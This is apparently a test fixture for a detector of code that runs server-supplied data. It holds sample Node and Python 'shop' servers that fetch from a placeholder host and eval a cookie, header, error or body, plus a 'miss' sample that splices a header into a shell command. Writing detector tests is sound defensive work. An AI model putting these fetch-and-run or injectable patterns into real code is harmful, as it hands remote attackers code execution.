import type { Examples } from "@doorward/core";

/** Answers whose cookies, headers and errors are run, and answers whose parts are only read. */
export const examples: Examples = {
  hits: [
    {
      name: "a cookie in the answer",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const axios = require("axios");
axios.get("https://api.example/check").then((answer) => new Function(answer.data.cookie)());
`,
      },
    },
    {
      name: "a header of the answer, in base64",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => {
  const build = answer.headers.get("x-build");
  eval(Buffer.from(build, "base64").toString());
});
`,
      },
    },
    {
      name: "the text of an error that a server answers with",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const axios = require("axios");
(async () => {
  try {
    await axios.get("https://api.example/check");
  } catch (error) {
    eval(error.response.data.message);
  }
})();
`,
      },
    },
    {
      name: "an error that goes through the error handler of a server",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const express = require("express");
const axios = require("axios");
const app = express();
app.get("/", async (request, response, next) => {
  try {
    await axios.get("https://api.example/check");
  } catch (error) {
    next(error);
  }
});
app.use((error, request, response, next) => {
  eval(error.response.data);
});
app.listen(3000);
`,
      },
    },
    {
      name: "a header in Python",
      files: {
        "main.py": `import requests
answer = requests.get("https://api.example/check")
exec(answer.headers["X-Build"])
`,
      },
    },
  ],
  misses: [
    {
      name: "a header that names a file type",
      why: "The header is compared and shown.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => console.log(answer.headers.get("content-type")));
`,
      },
    },
    {
      name: "a file name from a header that a program opens",
      why: "The program is named in the code; the header gives it a file.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { exec } = require("child_process");
fetch("https://api.example/check").then((answer) => exec("file /tmp/" + answer.headers.get("x-file-name")));
`,
      },
    },
    {
      name: "an error message that is printed",
      why: "The text is shown to a person.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").catch((error) => console.error(error.message));
`,
      },
    },
  ],
  evasions: [
    {
      name: "the same in the body of the answer",
      caughtBy: "code/fetched-code-runs",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then(({ session }) => eval(session));
`,
      },
    },
  ],
};
